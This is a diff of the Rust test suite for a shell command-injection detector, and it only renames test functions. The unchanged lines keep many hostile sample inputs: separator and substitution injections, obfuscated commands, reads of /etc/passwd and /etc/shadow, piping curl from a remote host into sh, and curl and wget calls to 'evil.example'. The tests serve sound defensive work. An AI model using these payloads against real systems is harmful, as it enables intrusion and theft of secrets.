@@ -7,7 +7,7 @@ fn found(value: &str) -> Option<&'static str> {
 }
 
 #[test]
-fn a_separator_and_a_command_are_an_injection() {
+fn finds_a_command_after_a_separator() {
     for attack in [
         ";id",
         "|id",
@@ -49,7 +49,7 @@ fn a_separator_and_a_command_are_an_injection() {
 }
 
 #[test]
-fn a_substitution_is_an_injection() {
+fn finds_substitutions() {
     for attack in [
         "$(id)",
         "`id`",
@@ -68,7 +68,7 @@ fn a_substitution_is_an_injection() {
 }
 
 #[test]
-fn disguises_do_not_hide_a_command() {
+fn finds_disguised_commands() {
     for attack in [
         "c''at /etc/passwd",
         "; c\\at /x/y",
@@ -89,7 +89,7 @@ fn disguises_do_not_hide_a_command() {
 }
 
 #[test]
-fn a_command_put_together_of_variables_runs() {
+fn finds_commands_built_from_variables() {
     for attack in ["a=cat;$a /x", "x=who&&y=ami;$x$y", "cat ${HOME:0:1}etc${HOME:0:1}hosts", "wh``oami; id"] {
         assert!(found(attack).is_some(), "{attack}");
     }
@@ -97,7 +97,7 @@ fn a_command_put_together_of_variables_runs() {
 }
 
 #[test]
-fn what_is_piped_into_a_shell_runs() {
+fn finds_pipes_into_a_shell() {
     for attack in ["curl http://192.0.2.1/a | sh", "echo aWQ= | base64 -d | bash", "x|python -c 'import os'"]
     {
         assert!(found(attack).is_some(), "{attack}");
@@ -105,7 +105,7 @@ fn what_is_piped_into_a_shell_runs() {
 }
 
 #[test]
-fn a_bare_command_line_needs_telling_arguments() {
+fn requires_distinctive_arguments_of_a_bare_command_line() {
     for attack in [
         "cat /var/www/x",
         "/usr/bin/id",
@@ -149,9 +149,9 @@ fn a_bare_command_line_needs_telling_arguments() {
     }
 }
 
-/// Texts with shell words and shell punctuation that run nothing.
+/// Texts with words and punctuation of the shell that run nothing.
 #[test]
-fn benign_texts_pass() {
+fn passes_benign_texts() {
     for benign in [
         "run `ls` in the folder; then cat the file",
         "The build failed; more tests are needed; who can help?",
@@ -213,14 +213,14 @@ fn benign_texts_pass() {
 }
 
 #[test]
-fn the_span_is_the_command_with_its_separator() {
+fn reports_the_command_with_its_separator() {
     let value = b"127.0.0.1; cat /etc/passwd";
     let found = &detect(value, Bytes::of(value), FieldKind::Value, false)[0];
     assert_eq!(&value[found.span.clone()], b"; cat /etc/passwd");
 }
 
 #[test]
-fn programs_that_run_others_are_looked_through() {
+fn finds_commands_run_by_other_programs() {
     for attack in [
         "time ifconfig",
         "NOHUP whoami",
@@ -234,14 +234,14 @@ fn programs_that_run_others_are_looked_through() {
 }
 
 #[test]
-fn input_may_be_fed_without_a_pipe() {
+fn finds_here_strings() {
     for attack in ["`cat<<<whoami`", ";irb<<<7+3", "$0<<<whoami x", ">(tee notes)"] {
         assert!(found(attack).is_some(), "{attack}");
     }
 }
 
 #[test]
-fn a_command_may_cut_off_what_follows() {
+fn finds_commands_before_a_comment() {
     for attack in ["\";rm x7 #", "a&del x7&rem", "\nuname >x7", "'|uname >x7 #"] {
         assert!(found(attack).is_some(), "{attack}");
     }
@@ -252,14 +252,14 @@ fn a_command_may_cut_off_what_follows() {
 }
 
 #[test]
-fn a_chain_of_commands_is_a_command_line() {
+fn finds_chains_of_commands() {
     assert_eq!(found("cd /;cd srv;fold notes"), Some("rce-command-chain"));
     assert_eq!(found("wash; cut; sort; find the lid"), None);
     assert_eq!(found("text/html,application/xml;q=0.9,*/*;q=0.8"), None);
 }
 
 #[test]
-fn words_around_a_command_that_leaves_no_doubt_are_no_cover() {
+fn finds_strong_commands_inside_prose() {
     let cover = "we all thought that the soup was rather good this time";
     for attack in
         ["; cat /etc/shadow", "| curl http://evil.example/x", "&& wget https://evil.example/x -O /tmp/x"]
@@ -274,7 +274,7 @@ fn words_around_a_command_that_leaves_no_doubt_are_no_cover() {
 }
 
 #[test]
-fn cmdlets_of_powershell_are_commands() {
+fn finds_cmdlets_of_powershell() {
     for attack in [";Get-Process", "Get-ChildItem C:\\x", "$(Get-Content C:\\x)"] {
         assert!(found(attack).is_some(), "{attack}");
     }
@@ -282,7 +282,7 @@ fn cmdlets_of_powershell_are_commands() {
 }
 
 #[test]
-fn everyday_lists_and_pairs_pass() {
+fn passes_common_lists_and_pairs() {
     for benign in [
         "time flies; so do birds",
         "Tom & Jerry; the movie",
@@ -299,7 +299,7 @@ fn everyday_lists_and_pairs_pass() {
 }
 
 #[test]
-fn whole_command_lines_are_found_in_quotes_and_with_escaped_line_ends() {
+fn finds_command_lines_in_quotes_and_with_escaped_line_ends() {
     for attack in [
         "\\nid\\n",
         "\\n/bin/ls -al\\n",
@@ -318,7 +318,7 @@ fn whole_command_lines_are_found_in_quotes_and_with_escaped_line_ends() {
 }
 
 #[test]
-fn words_like_commands_pass_alone_and_in_sentences() {
+fn passes_names_of_commands_alone_and_in_sentences() {
     for text in [
         "'a list'",
         "rm 5",
